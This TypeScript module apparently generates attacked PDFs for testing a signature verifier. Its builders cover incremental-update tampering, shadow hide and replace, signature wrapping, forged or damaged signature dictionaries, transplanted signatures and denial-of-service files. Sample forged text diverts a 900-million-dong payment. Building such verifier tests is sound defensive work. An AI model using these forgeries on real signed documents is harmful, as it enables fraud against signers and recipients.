/**
 * Attack builders for PDF signatures: each takes PDFs as Buffers (plus the PKI/signer where it must sign)
 * and returns the attacked PDF. Every builder says, in one line, what it does and which problem code a
 * correct verifier reports ("→ CODE"; alternatives separated by "|"). The attacks follow the published
 * families (pdf-insecurity.org: ISA, SWA, USF; RUB-NDS shadow attacks; PDF101 denial of service).
 *
 * Problem codes: NOT_A_PDF, MALFORMED_PDF, NO_SIGNATURE, MALFORMED_SIGNATURE, BAD_BYTE_RANGE, DIGEST_MISMATCH,
 * BAD_SIGNATURE, UNSUPPORTED_ALGORITHM, UNTRUSTED_CHAIN, CERT_EXPIRED, CERT_NOT_YET_VALID, CERT_REVOKED,
 * WRONG_KEY_USAGE, MODIFIED_AFTER_SIGNING, MISSING_ORGANIZATION_SIGNATURE.
 *
 * Unless said otherwise the attacked signature is the LAST one (the organisation's seal on a two-signature
 * document), and byte offsets of the earlier revisions are kept so that the files still parse.
 */
import { randomBytes } from 'node:crypto';
import type { Identity, TestPki } from './pki';
import { makeDocumentPdf, solidPng, type DocumentPdfOptions } from './document-pdf';
import {
  PdfDict,
  PdfFile,
  PdfRef,
  PdfString,
  appendIncrementalUpdate,
  encodeObject,
  fillSignatureContents,
  findSignatures,
  name,
  preparePdfSignature,
  serialize,
  signPdf,
  textString,
  xrefSection,
  type FoundSignature,
  type NewObject,
} from './pdf-signer';

export type ProblemCode =
  | 'NOT_A_PDF'
  | 'MALFORMED_PDF'
  | 'NO_SIGNATURE'
  | 'MALFORMED_SIGNATURE'
  | 'BAD_BYTE_RANGE'
  | 'DIGEST_MISMATCH'
  | 'BAD_SIGNATURE'
  | 'UNSUPPORTED_ALGORITHM'
  | 'UNTRUSTED_CHAIN'
  | 'CERT_EXPIRED'
  | 'CERT_NOT_YET_VALID'
  | 'CERT_REVOKED'
  | 'WRONG_KEY_USAGE'
  | 'MODIFIED_AFTER_SIGNING'
  | 'MISSING_ORGANIZATION_SIGNATURE';

// ------------------------------------------------------------------------------------------------------
// helpers
// ------------------------------------------------------------------------------------------------------

function lastSignature(pdf: Buffer): FoundSignature {
  const sigs = findSignatures(pdf);
  const s = sigs[sigs.length - 1];
  if (!s) throw new Error('the PDF has no signature to attack');
  return s;
}

/** Replace bytes [start, end) by `text` padded with spaces to the same length (offsets stay valid). */
function overwriteSameLength(pdf: Buffer, start: number, end: number, text: string): Buffer {
  const len = end - start;
  if (text.length > len) throw new Error(`replacement (${text.length}) longer than the original (${len})`);
  const out = Buffer.from(pdf);
  out.write(text.padEnd(len, ' '), start, 'latin1');
  return out;
}

/** Decoded content of a page (its /Contents stream or array of streams, concatenated). */
function pageContent(file: PdfFile, page: PdfDict): Buffer {
  const c = page.get('Contents');
  const refs = Array.isArray(c) ? c : c ? [c] : [];
  const parts: Buffer[] = [];
  for (const r of refs) if (r instanceof PdfRef) parts.push(file.streamData(file.getObject(r)), Buffer.from('\n'));
  return Buffer.concat(parts);
}

const HELVETICA = () =>
  new PdfDict({ Type: name('Font'), Subtype: name('Type1'), BaseFont: name('Helvetica'), Encoding: name('WinAnsiEncoding') });

/** Page dict with inline /Resources that also holds /Font /FAtk -> fontRef. */
function withAttackFont(file: PdfFile, page: PdfDict, fontRef: PdfRef): PdfDict {
  const p = page.clone();
  const res = file.dict(page.get('Resources'))?.clone() ?? new PdfDict();
  const fonts = file.dict(res.get('Font'))?.clone() ?? new PdfDict();
  fonts.set('FAtk', fontRef);
  res.set('Font', fonts);
  p.set('Resources', res);
  return p;
}

/** Operators that blank the body of page 1 and write `text` instead (Helvetica, ASCII). */
function overlayOps(lines: string[]): string {
  const esc = (s: string) => s.replace(/([\\()])/g, '\\$1');
  let ops = 'q 1 1 1 rg 80 395 480 262 re f Q\nBT 0 0 0 rg /FAtk 13 Tf 90 635 Td 17 TL\n';
  for (const l of lines) ops += `(${esc(l)}) Tj T*\n`;
  return ops + 'ET\n';
}

const FORGED_TEXT = [
  'Thuc hien chi dao cua lanh dao, So Tai chinh de nghi chuyen ngay',
  '900.000.000 dong vao tai khoan so 0123456789 cua Cong ty TNHH ABC',
  'truoc ngay 30/11/2026. (noi dung nay da bi sua sau khi ky)',
];

/** Objects that replace page `pageIndex` content with the original + an overlay of forged text. */
function contentChangeObjects(file: PdfFile, pageIndex: number, firstFreeNum: number, lines = FORGED_TEXT): NewObject[] {
  const pageRef = file.pageRefs()[pageIndex];
  if (!pageRef) throw new Error(`no page ${pageIndex}`);
  const page = file.dict(pageRef)!;
  const contentNum = firstFreeNum;
  const fontNum = firstFreeNum + 1;
  // pdfkit's content starts with an un-saved "1 0 0 -1 0 h cm": wrap the original in q … Q first.
  const data = Buffer.concat([Buffer.from('q\n'), pageContent(file, page), Buffer.from('Q\n' + overlayOps(lines), 'latin1')]);
  const newPage = withAttackFont(file, page, new PdfRef(fontNum));
  newPage.set('Contents', new PdfRef(contentNum));
  return [
    { num: contentNum, value: new PdfDict(), stream: data },
    { num: fontNum, value: HELVETICA() },
    { num: pageRef.num, gen: pageRef.gen, value: newPage },
  ];
}

/** A minimal classic-xref PDF from object bodies numbered 1..n (object 1 must be the catalog). */
export function rawPdf(bodies: (string | Buffer)[], trailerExtra = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let pos = parts[0]!.length;
  const offsets = new Map<number, number>();
  bodies.forEach((b, i) => {
    const obj = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof b === 'string' ? Buffer.from(b, 'latin1') : b,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    offsets.set(i + 1, pos);
    parts.push(obj);
    pos += obj.length;
  });
  const xref = `xref\n0 1\n0000000000 65535 f \n${xrefSection(offsets).slice('xref\n'.length)}`;
  parts.push(
    Buffer.from(`${xref}trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R${trailerExtra} >>\nstartxref\n${pos}\n%%EOF\n`, 'latin1'),
  );
  return Buffer.concat(parts);
}

const MEDIABOX = '[0 0 595.28 841.89]';
const PAGE_TEXT = (t: string) => {
  const s = `BT /F1 14 Tf 72 760 Td (${t}) Tj ET`;
  return `<< /Length ${s.length} >>\nstream\n${s}\nendstream`;
};

async function signBoth(pki: TestPki, pdf: Buffer): Promise<Buffer> {
  return signPdf(await signPdf(pdf, pki.person), pki.organization);
}

// ------------------------------------------------------------------------------------------------------
// incremental saving attacks (ISA)
// ------------------------------------------------------------------------------------------------------

/** ISA: an update rewrites page 1 to point to a new content stream with forged text; signatures stay intact over their ranges → MODIFIED_AFTER_SIGNING. */
export function incrementalContentChange(signed: Buffer, opts: { page?: number; lines?: string[] } = {}): Buffer {
  const file = new PdfFile(signed);
  return appendIncrementalUpdate(signed, contentChangeObjects(file, opts.page ?? 0, file.size, opts.lines), { file }).pdf;
}

/** ISA variant: an update adds a FreeText annotation with its own appearance over page 1 (nothing else changes) → MODIFIED_AFTER_SIGNING. */
export function addAnnotationOverlay(signed: Buffer): Buffer {
  const file = new PdfFile(signed);
  const pageRef = file.pageRefs()[0]!;
  const page = file.dict(pageRef)!.clone();
  const annotNum = file.size;
  const apNum = annotNum + 1;
  const fontNum = annotNum + 2;
  const rect = [80, 395, 560, 657];
  const annots = file.resolve(page.get('Annots'));
  page.set('Annots', [...(Array.isArray(annots) ? annots : []), new PdfRef(annotNum)]);
  const ap = Buffer.from(overlayOps(FORGED_TEXT).replace('80 395 480 262 re', '0 0 480 262 re').replace('90 635 Td', '10 240 Td'), 'latin1');
  return appendIncrementalUpdate(
    signed,
    [
      {
        num: annotNum,
        value: new PdfDict({
          Type: name('Annot'),
          Subtype: name('FreeText'),
          Rect: rect,
          F: 4,
          P: pageRef,
          Contents: textString('Nội dung đã sửa'),
          DA: textString('/Helv 13 Tf 0 g'),
          AP: new PdfDict({ N: new PdfRef(apNum) }),
        }),
      },
      {
        num: apNum,
        value: new PdfDict({
          Type: name('XObject'),
          Subtype: name('Form'),
          BBox: [0, 0, 480, 262],
          Resources: new PdfDict({ Font: new PdfDict({ FAtk: new PdfRef(fontNum) }) }),
        }),
        stream: ap,
      },
      { num: fontNum, value: HELVETICA() },
      { num: pageRef.num, gen: pageRef.gen, value: page },
    ],
    { file },
  ).pdf;
}

/** Bytes appended after the signed %%EOF that are not a valid incremental update → MODIFIED_AFTER_SIGNING|MALFORMED_PDF. */
export function appendGarbageAfterEof(signed: Buffer, bytes = 4096): Buffer {
  const junk = Buffer.concat([
    Buffer.from('\n% appended after signing\n999 0 obj\n<< /Type /Junk /Data <', 'latin1'),
    Buffer.from(randomBytes(Math.max(16, bytes >> 1)).toString('hex'), 'latin1'),
    Buffer.from('> >>\nendobj\n', 'latin1'),
  ]);
  return Buffer.concat([signed, junk]);
}

/** DSS-2802 spoofing: an update rewrites the signature dictionary object itself (same /ByteRange and /Contents copied, new /Reason and /M), so /ByteRange no longer frames that object's /Contents → MODIFIED_AFTER_SIGNING|BAD_BYTE_RANGE. */
export function signatureDictionaryReplaced(signed: Buffer): Buffer {
  const sig = lastSignature(signed);
  const file = new PdfFile(signed);
  const original = signed.toString('latin1', sig.objOffset, sig.objEnd);
  const body = original
    .replace(/^\d+\s+\d+\s+obj\s*/, '')
    .replace(/\s*endobj\s*$/, '')
    .replace(/\/Reason\s*(\([^)]*\)|<[^>]*>)/, `/Reason ${serialize(textString('Đồng ý chi 900.000.000 đồng'))}`)
    .replace(/\/M\s*\([^)]*\)/, '/M (D:20261201090000+07\'00\')');
  const objBytes = Buffer.from(`${sig.sigRef.num} ${sig.sigRef.gen} obj\n${body}\nendobj\n`, 'latin1');
  // Written by hand: the dictionary text (with its 32 KB hex string) is copied verbatim.
  const start = signed.length + (signed[signed.length - 1] === 10 ? 0 : 1);
  const prefix = signed[signed.length - 1] === 10 ? Buffer.alloc(0) : Buffer.from('\n');
  const offsets = new Map([[sig.sigRef.num, start]]);
  const xrefOffset = start + objBytes.length;
  const trailer = new PdfDict();
  for (const [k, v] of file.trailer.map) if (k !== 'Prev') trailer.set(k, v);
  trailer.set('Prev', file.startxref);
  const tail = `${xrefSection(offsets)}trailer\n${serialize(trailer)}\nstartxref\n${xrefOffset}\n%%EOF\n`;
  return Buffer.concat([signed, prefix, objBytes, Buffer.from(tail, 'latin1')]);
}

// ------------------------------------------------------------------------------------------------------
// shadow attacks
// ------------------------------------------------------------------------------------------------------

export interface ShadowParts {
  /** The prepared original, signed by person then organisation: a legitimately valid document. */
  signedOriginal: Buffer;
  /** The same after the attacker's update. */
  attacked: Buffer;
}

const HIDDEN_TEXT = 'ĐỒNG Ý CHI 900.000.000 ĐỒNG CHO CÔNG TY TNHH ABC';

/**
 * Shadow "hide" (via a referenced object): the original draws forged text and covers it with a white image
 * XObject; after both signatures the attacker's update replaces that image object by an empty form, which
 * reveals the text. Only a referenced object changes; the signed content stream is untouched.
 */
export async function shadowHideParts(pki: TestPki, doc: DocumentPdfOptions = {}): Promise<ShadowParts> {
  const original = await makeDocumentPdf({
    ...doc,
    extraText: [{ text: HIDDEN_TEXT, x: 90, y: 405, size: 11, color: '#c00000' }],
    overlays: [{ image: solidPng([255, 255, 255]), x: 86, y: 398, width: 470, height: 26 }],
  });
  const signedOriginal = await signBoth(pki, original);
  const file = new PdfFile(signedOriginal);
  const page = file.dict(file.pageRefs()[0]!)!;
  const xobjects = file.dict(file.dict(page.get('Resources'))?.get('XObject'));
  let imageRef: PdfRef | undefined;
  for (const [, v] of xobjects?.map ?? []) if (v instanceof PdfRef) imageRef ??= v;
  if (!imageRef) throw new Error('shadowHide: cover image not found');
  const attacked = appendIncrementalUpdate(
    signedOriginal,
    [
      {
        num: imageRef.num,
        gen: imageRef.gen,
        value: new PdfDict({ Type: name('XObject'), Subtype: name('Form'), BBox: [0, 0, 1, 1] }),
        stream: Buffer.alloc(0),
      },
    ],
    { file },
  ).pdf;
  return { signedOriginal, attacked };
}

/** Shadow hide: an update swaps the signed white cover image for an empty form, revealing hidden forged text → MODIFIED_AFTER_SIGNING. */
export async function shadowHide(pki: TestPki): Promise<Buffer> {
  return (await shadowHideParts(pki)).attacked;
}

/**
 * Shadow "replace" via a form field: the original carries a read-only text field showing
 * "Kinh phi: 100.000.000 dong" (its own appearance, added before signing); after both signatures the
 * attacker's update changes the field value and appearance to 900.000.000 (a form-fill style change).
 */
export async function shadowReplaceParts(pki: TestPki, doc: DocumentPdfOptions = {}): Promise<ShadowParts> {
  const base = await makeDocumentPdf(doc);
  const file = new PdfFile(base);
  const pageRef = file.pageRefs()[0]!;
  let n = file.size;
  const fieldNum = n++;
  const apNum = n++;
  const fontNum = n++;
  const rect = [90, 412, 400, 436];
  const fieldDict = (value: string, ap: number) =>
    new PdfDict({
      Type: name('Annot'),
      Subtype: name('Widget'),
      FT: name('Tx'),
      T: textString('kinh_phi'),
      V: textString(value),
      DA: textString('/Helv 12 Tf 0 g'),
      Ff: 1,
      F: 4,
      Rect: rect,
      P: pageRef,
      AP: new PdfDict({ N: new PdfRef(ap) }),
    });
  const apObj = (num: number, value: string): NewObject => ({
    num,
    value: new PdfDict({
      Type: name('XObject'),
      Subtype: name('Form'),
      BBox: [0, 0, rect[2]! - rect[0]!, rect[3]! - rect[1]!],
      Resources: new PdfDict({ Font: new PdfDict({ Helv: new PdfRef(fontNum) }) }),
    }),
    stream: Buffer.from(`/Tx BMC q BT 0 g /Helv 12 Tf 2 7 Td (${value}) Tj ET Q EMC\n`, 'latin1'),
  });
  const page = file.dict(pageRef)!.clone();
  page.set('Annots', [new PdfRef(fieldNum)]);
  const catalog = file.catalog.clone();
  catalog.set(
    'AcroForm',
    new PdfDict({
      Fields: [new PdfRef(fieldNum)],
      DA: textString('/Helv 12 Tf 0 g'),
      DR: new PdfDict({ Font: new PdfDict({ Helv: new PdfRef(fontNum) }) }),
    }),
  );
  const prepared = appendIncrementalUpdate(
    base,
    [
      { num: fieldNum, value: fieldDict('Kinh phi: 100.000.000 dong', apNum) },
      apObj(apNum, 'Kinh phi: 100.000.000 dong'),
      { num: fontNum, value: HELVETICA() },
      { num: pageRef.num, gen: pageRef.gen, value: page },
      { num: file.rootRef.num, gen: file.rootRef.gen, value: catalog },
    ],
    { file },
  ).pdf;
  const signedOriginal = await signBoth(pki, prepared);
  const sfile = new PdfFile(signedOriginal);
  const newAp = sfile.size;
  const attacked = appendIncrementalUpdate(
    signedOriginal,
    [
      { num: fieldNum, value: fieldDict('Kinh phi: 900.000.000 dong', newAp) },
      apObj(newAp, 'Kinh phi: 900.000.000 dong'),
    ],
    { file: sfile },
  ).pdf;
  return { signedOriginal, attacked };
}

/** Shadow replace: an update changes the value and appearance of a signed read-only form field (100 → 900 million) → MODIFIED_AFTER_SIGNING. */
export async function shadowReplace(pki: TestPki): Promise<Buffer> {
  return (await shadowReplaceParts(pki)).attacked;
}

// ------------------------------------------------------------------------------------------------------
// signature wrapping (SWA)
// ------------------------------------------------------------------------------------------------------

/**
 * SWA: /Contents of the last signature is shortened to its DER, and forged objects (a new page-1 object and
 * content stream) are written into the freed gap before the second signed range; an xref update appended
 * after the signed tail points at them. /ByteRange [0 a b c] is unchanged, so both ranges hash to the signed
 * digest, but b now points past the inserted content → BAD_BYTE_RANGE|MALFORMED_SIGNATURE|MODIFIED_AFTER_SIGNING.
 */
export function signatureWrapping(signed: Buffer): Buffer {
  const sig = lastSignature(signed);
  const br = sig.byteRange;
  if (!br || br.length !== 4) throw new Error('signatureWrapping: unexpected ByteRange');
  const [, a, b] = br as [number, number, number, number];
  if (a !== sig.contentsStart || b !== sig.contentsEnd) throw new Error('signatureWrapping: ByteRange does not frame /Contents');
  const file = new PdfFile(signed);
  const hex = Buffer.from(`<${sig.cms.toString('hex').toUpperCase()}>`, 'latin1');
  const objs = contentChangeObjects(file, 0, file.size);
  const encoded = objs.map(encodeObject);
  // Hide the forged objects inside a literal string of the signature dictionary (/SWA (…)), so that the
  // dictionary still parses sequentially while xref-driven readers jump straight to the objects.
  const text = Buffer.concat(encoded).toString('latin1');
  let depth = 0;
  let balanced = true;
  for (let i = 0; i < text.length && balanced; i++) {
    const ch = text[i];
    if (ch === '\\') i++;
    else if (ch === '(') depth++;
    else if (ch === ')' && --depth < 0) balanced = false;
  }
  balanced &&= depth === 0 && !text.endsWith('\\');
  const open = Buffer.from(balanced ? ' /SWA (\n' : '\n', 'latin1');
  // '%' first: a reader that lexes on after the last forged object sees a comment, not a stray ')'.
  const close = balanced ? '%)' : '\n';
  const offsets = new Map<number, number>();
  const gens = new Map<number, number>();
  const chunks: Buffer[] = [hex, open];
  let pos = a + hex.length + open.length;
  objs.forEach((o, i) => {
    offsets.set(o.num, pos);
    gens.set(o.num, o.gen ?? 0);
    chunks.push(encoded[i]!);
    pos += encoded[i]!.length;
  });
  const gap = b - a;
  const used = pos - a + close.length;
  if (used > gap) throw new Error(`signatureWrapping: forged objects (${used} bytes) do not fit in the gap (${gap})`);
  chunks.push(Buffer.from(close.slice(0, -1) + ' '.repeat(gap - used) + close.slice(-1), 'latin1'));
  const middle = Buffer.concat(chunks);
  const head = Buffer.concat([signed.subarray(0, a), middle, signed.subarray(b)]);
  const trailer = new PdfDict();
  for (const [k, v] of file.trailer.map) if (k !== 'Prev') trailer.set(k, v);
  trailer.set('Size', Math.max(file.size, ...objs.map((o) => o.num + 1)));
  trailer.set('Prev', file.startxref);
  const tail = `${xrefSection(offsets, gens)}trailer\n${serialize(trailer)}\nstartxref\n${head.length}\n%%EOF\n`;
  return Buffer.concat([head, Buffer.from(tail, 'latin1')]);
}

// ------------------------------------------------------------------------------------------------------
// universal signature forgery (USF) and other signature-dictionary damage
// ------------------------------------------------------------------------------------------------------

export type ForgeryVariant =
  | 'empty-contents'
  | 'zero-contents'
  | 'no-byterange'
  | 'null-byterange'
  | 'short-byterange'
  | 'zero-byterange'
  | 'byterange-past-eof';

export const FORGERY_VARIANTS: ForgeryVariant[] = [
  'empty-contents',
  'zero-contents',
  'no-byterange',
  'null-byterange',
  'short-byterange',
  'zero-byterange',
  'byterange-past-eof',
];

/**
 * USF: damage the last signature dictionary in place (same length, offsets kept) so that a lax verifier has
 * nothing to check: /Contents <> or all zeros, /ByteRange missing, null, [0 a] or [0 0 0 0], or reaching past
 * EOF → MALFORMED_SIGNATURE|BAD_BYTE_RANGE (never "valid", never silently ignored).
 */
export function universalForgery(signed: Buffer, variant: ForgeryVariant): Buffer {
  const sig = lastSignature(signed);
  const span = sig.byteRangeSpan;
  const keyStart = span ? signed.lastIndexOf('/ByteRange', span[0], 'latin1') : -1;
  switch (variant) {
    case 'empty-contents':
      return overwriteSameLength(signed, sig.contentsStart, sig.contentsEnd, '<>');
    case 'zero-contents':
      return overwriteSameLength(signed, sig.contentsStart, sig.contentsEnd, `<${'0'.repeat(sig.contentsEnd - sig.contentsStart - 2)}>`);
    case 'no-byterange':
      return overwriteSameLength(signed, keyStart, span![1], '');
    case 'null-byterange':
      return overwriteSameLength(signed, keyStart, span![1], '/ByteRange null');
    case 'short-byterange':
      return overwriteSameLength(signed, span![0], span![1], `[0 ${sig.byteRange![1]}]`);
    case 'zero-byterange':
      return overwriteSameLength(signed, span![0], span![1], '[0 0 0 0]');
    case 'byterange-past-eof': {
      const [x, y, z, w] = sig.byteRange as [number, number, number, number];
      return overwriteSameLength(signed, span![0], span![1], `[${x} ${y} ${z} ${w + 4096}]`);
    }
  }
}

/** A /Contents hex string that is not DER (text and random bytes, zero padded) → MALFORMED_SIGNATURE. */
export function malformedContents(signed: Buffer): Buffer {
  const sig = lastSignature(signed);
  const junk = Buffer.concat([Buffer.from('This is not a CMS SignedData. ', 'latin1'), randomBytes(200)]);
  junk[0] = 0x04; // looks like an OCTET STRING whose length byte is nonsense
  const cap = sig.contentsEnd - sig.contentsStart - 2;
  return overwriteSameLength(signed, sig.contentsStart, sig.contentsEnd, `<${junk.toString('hex').toUpperCase().padEnd(cap, '0')}>`);
}

/**
 * Signature copied from another document: document A's last /Contents (a genuine CMS from a trusted signer)
 * is put into a same-size signature placeholder of B (B's last signature; a new field when B is unsigned or
 * with mode 'new-field') → DIGEST_MISMATCH.
 */
export function copySignatureFrom(
  signedA: Buffer,
  unsignedOrSignedB: Buffer,
  opts: { mode?: 'replace-last' | 'new-field' } = {},
): Buffer {
  const a = lastSignature(signedA);
  const capacityBytes = (a.contentsEnd - a.contentsStart - 2) / 2;
  const bSigs = findSignatures(unsignedOrSignedB);
  const b = bSigs[bSigs.length - 1];
  if (opts.mode !== 'new-field' && b && (b.contentsEnd - b.contentsStart - 2) / 2 >= a.cms.length) {
    return fillSignatureContents({ pdf: unsignedOrSignedB, contentsStart: b.contentsStart, contentsEnd: b.contentsEnd }, a.cms);
  }
  // B unsigned (or with a too small placeholder): add a placeholder of A's size and paste A's CMS into it.
  const signerName = readSignerName(signedA, a);
  const prepared = preparePdfSignature(unsignedOrSignedB, { contentsSize: capacityBytes, signerName });
  return fillSignatureContents(prepared, a.cms);
}

function readSignerName(pdf: Buffer, s: FoundSignature): string | undefined {
  const file = new PdfFile(pdf);
  const d = file.dict(s.sigRef);
  const n = d?.get('Name');
  if (n instanceof PdfString) {
    const raw = n.raw.toString('latin1');
    if (raw.startsWith('<FEFF')) return Buffer.from(raw.slice(5, -1), 'hex').swap16().toString('utf16le');
    return raw.slice(1, -1);
  }
  return undefined;
}

/**
 * Change one byte of page-1 text inside the signed range (in the first revision, so every signature covers it):
 * one hex digit of a glyph string in an uncompressed content stream, else a digit of /CreationDate → DIGEST_MISMATCH.
 */
export function flipByteInSignedRange(signed: Buffer): Buffer {
  const file = new PdfFile(signed);
  const sigs = findSignatures(signed);
  const firstEnd = sigs[0]?.byteRange?.[1] ?? signed.length;
  const page = file.dict(file.pageRefs()[0]!)!;
  const contents = page.get('Contents');
  const ref = Array.isArray(contents) ? contents[0] : contents;
  let pos = -1;
  if (ref instanceof PdfRef) {
    const obj = file.getObject(ref);
    const d = obj.value as PdfDict;
    if (!d.get('Filter') && obj.streamOffset !== undefined && obj.stream) {
      const text = obj.stream.toString('latin1');
      const m = /\[<([0-9a-f]{8,})>/i.exec(text);
      if (m) pos = obj.streamOffset + m.index + 2 + 3; // last hex digit of the first glyph id
    }
  }
  if (pos < 0 || pos >= firstEnd) {
    const m = /\/CreationDate\s*(?:\d+ \d+ R|\(D:(\d))/.exec(signed.toString('latin1', 0, firstEnd));
    const infoRef = file.trailer.get('Info');
    const info = file.dict(infoRef);
    const cd = info?.get('CreationDate');
    if (cd instanceof PdfRef) {
      const o = file.getObject(cd);
      pos = signed.indexOf('(D:', o.offset, 'latin1') + 3;
    } else if (m) pos = m.index + m[0].length - 1;
  }
  if (pos < 0 || pos >= firstEnd) throw new Error('flipByteInSignedRange: nothing to flip');
  const out = Buffer.from(signed);
  const c = String.fromCharCode(out[pos]!);
  const flipped = /[0-9]/.test(c) ? String((Number(c) + 1) % 10) : c === 'f' || c === 'F' ? 'e' : String.fromCharCode(out[pos]! + 1);
  out.write(flipped, pos, 'latin1');
  return out;
}

// ------------------------------------------------------------------------------------------------------
// hostile files (denial of service, not a PDF)
// ------------------------------------------------------------------------------------------------------

/** The first `keepBytes` bytes only (no xref, no %%EOF, ranges past the end) → MALFORMED_PDF|NO_SIGNATURE|BAD_BYTE_RANGE. */
export function truncated(pdf: Buffer, keepBytes: number): Buffer {
  return Buffer.from(pdf.subarray(0, Math.max(0, Math.min(keepBytes, pdf.length))));
}

/** A ZIP local file header (a .docx sent as "văn bản") and some bytes → NOT_A_PDF. */
export function notAPdf(): Buffer {
  const nameBuf = Buffer.from('word/document.xml', 'latin1');
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0); // PK\3\4
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(0, 6);
  header.writeUInt16LE(8, 8); // deflate
  header.writeUInt32LE(0x5a7b0000, 10);
  header.writeUInt32LE(0, 14);
  header.writeUInt32LE(512, 18);
  header.writeUInt32LE(2048, 22);
  header.writeUInt16LE(nameBuf.length, 26);
  header.writeUInt16LE(0, 28);
  return Buffer.concat([header, nameBuf, randomBytes(512), Buffer.from('%PDF-1.7 (not at the start)\n', 'latin1')]);
}

/**
 * A signature whose /Contents is a `hexChars`-long hex string (default 10 MB). With a signer it holds a real
 * CMS followed by zero padding (a correct verifier either accepts it or refuses it as MALFORMED_SIGNATURE, in
 * bounded time and memory); without a signer it is random non-DER hex → MALFORMED_SIGNATURE.
 */
export async function hugeContents(pdf: Buffer, hexChars = 10 * 1024 * 1024, signer?: Identity): Promise<Buffer> {
  const contentsSize = Math.floor(hexChars / 2);
  if (signer) return signPdf(pdf, signer, { contentsSize });
  const prepared = preparePdfSignature(pdf, { contentsSize, signerName: 'Không rõ' });
  const junk = randomBytes(contentsSize);
  junk[0] = 0x30;
  junk[1] = 0x84;
  junk.writeUInt32BE(0x7fffffff, 2); // claims a 2 GB SEQUENCE
  return fillSignatureContents(prepared, junk);
}

/** A PDF whose catalog references an array nested `depth` levels deep (also used as /AcroForm /Fields) → NO_SIGNATURE|MALFORMED_PDF, no stack overflow. */
export function deeplyNested(depth = 100_000): Buffer {
  const nested = Buffer.concat([Buffer.alloc(depth, '['), Buffer.from('0'), Buffer.alloc(depth, ']')]);
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R /AcroForm << /Fields 4 0 R /SigFlags 3 >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> >>`,
    nested,
    PAGE_TEXT('Deeply nested array'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** Reference loops: a page tree whose /Kids point back up, a self-referencing array, and a signature field whose /Kids and /Parent contain itself → NO_SIGNATURE|MALFORMED_PDF, no hang. */
export function referenceLoop(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Loop 5 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Contents 7 0 R /Resources << /Font << /F1 8 0 R >> >> >>`,
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 1 >>',
    '[5 0 R 5 0 R]',
    '<< /FT /Sig /T (Signature1) /Kids [6 0 R] /Parent 6 0 R /V 9 0 R >>',
    PAGE_TEXT('Reference loop'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange 10 0 R /Contents 9 0 R >>',
    '10 0 R',
  ]);
}

/** A valid document of about `bytes` (incompressible attachment), signed by person then organisation → valid (benchmark input, not an attack). */
export async function bigPdf(pki: TestPki, bytes = 50 * 1024 * 1024): Promise<Buffer> {
  const doc = await makeDocumentPdf({ padToBytes: Math.max(0, bytes - 80 * 1024), pages: 2 });
  return signBoth(pki, doc);
}

